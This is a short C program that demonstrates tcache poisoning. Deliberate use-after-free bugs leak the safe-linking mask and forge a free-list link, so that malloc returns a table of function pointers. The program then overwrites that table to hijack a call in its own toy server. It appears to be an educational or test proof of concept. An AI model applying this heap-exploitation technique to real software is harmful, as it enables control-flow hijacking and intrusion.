// Forged link of a free list ("tcache poisoning").
//
// Notes can be edited after they were deleted. Where the allocator keeps the list of free blocks in the blocks
// themselves, that is an edit of the list. Links may be masked; but the link of the first block freed leads nowhere, so
// that reading the deleted note tells the mask.
// The attacker gains: malloc returns an address of his choice; here, that of a table of function pointers.
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

typedef int command_t(void);

static int refuse(void) {
  puts("attack failed: the server refuses");
  return 1;
}

static int grant(void) {
  puts("ATTACK SUCCEEDED: malloc returned the table of commands, and the server calls what the attacker put there");
  return 0;
}

static _Alignas(64) command_t* volatile commands[8] = {refuse};
static uintptr_t* volatile notes[3];

int main(void) {
  for (int i = 0; i < 3; i++) notes[i] = malloc(64);
  free(notes[0]);
  uintptr_t mask = *notes[0];  // bug: a deleted note is read
  free(notes[1]);
  *notes[1] = (uintptr_t)commands ^ mask;  // bug: a deleted note is edited

  uintptr_t payload[8] = {(uintptr_t)grant};
  for (int i = 0; i < 2; i++) memcpy(malloc(64), payload, sizeof(payload));  // two new notes
  for (int i = 0; i < 2000; i++) notes[2] = calloc(1, 64);                     // the server goes on working

  return commands[0]();
}
